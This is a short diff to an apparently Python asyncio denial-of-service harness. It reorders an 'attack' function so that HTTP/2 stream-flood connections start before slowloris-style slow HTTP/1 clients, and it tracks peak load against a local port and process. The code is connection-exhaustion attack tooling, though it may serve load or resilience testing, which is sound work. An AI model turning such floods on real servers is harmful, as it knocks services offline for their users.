@@ -101,8 +101,10 @@ async def h2_flood(port, streams, held, stop):
 async def attack(port, slow, h2_conns, streams, hold_seconds, pid):
     stop = asyncio.Event()
     held_http1, held_h2 = [], []
-    tasks = [asyncio.create_task(slow_http1(port, held_http1, stop)) for _ in range(slow)]
-    tasks += [asyncio.create_task(h2_flood(port, streams, held_h2, stop)) for _ in range(h2_conns)]
+    # The HTTP/2 connections first, so the slow clients cannot take every connection slot.
+    tasks = [asyncio.create_task(h2_flood(port, streams, held_h2, stop)) for _ in range(h2_conns)]
+    await asyncio.sleep(0.5)
+    tasks += [asyncio.create_task(slow_http1(port, held_http1, stop)) for _ in range(slow)]
     peak = 0
     end = time.monotonic() + hold_seconds
     while time.monotonic() < end:
